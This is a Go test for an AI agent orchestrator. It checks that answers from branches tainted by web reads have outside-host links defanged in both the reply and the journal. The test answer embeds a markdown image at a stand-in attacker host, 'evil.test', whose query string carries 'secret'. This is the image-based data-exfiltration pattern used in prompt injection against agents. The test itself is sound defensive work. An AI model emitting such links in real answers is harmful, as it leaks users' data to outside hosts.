package orchestrator

import (
	"testing"

	"github.com/stretchr/testify/require"
)

// A picture on somebody else's host doesn't leave a tainted branch, in the
// reply and in the journal; hosts of the configuration and of the request do,
// and an answer that nobody else had a hand in stays as it is.
func TestAnswerLinks(t *testing.T) {
	const answer = "Done ![x](https://evil.test/p.png?d=secret), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
	const shown = "Done ![x] (hxxps://evil[.]test/…), [ours](https://docs.example.org/a), [yours](https://asked.test/b)."
	o := with(outside(t), echo(t))
	o.config = "answers: {links: {allow: ['*.example.org']}}\n"
	r := start(t, o,
		orch("first", dispatch("a", "do-a", "note.echo"), results("wait_all"), answer),
		orch("then", dispatch("b", "do-b", "web.read"), results("wait_all"), answer),
		agent("do-a", use("note.echo", "x"), "ok"), agent("do-b", use("web.read", "x"), "ok"))
	clean := r.send("first")
	require.False(t, clean.Tainted)
	require.Equal(t, answer, clean.Text)
	require.Zero(t, clean.Links)

	reply := r.send("then look at https://asked.test/page")
	require.True(t, reply.Tainted)
	require.Equal(t, shown, reply.Text)
	require.Equal(t, 1, reply.Links)
	require.Equal(t, []string{shown}, r.kept(reply.Turn)[keptAnswer])
}
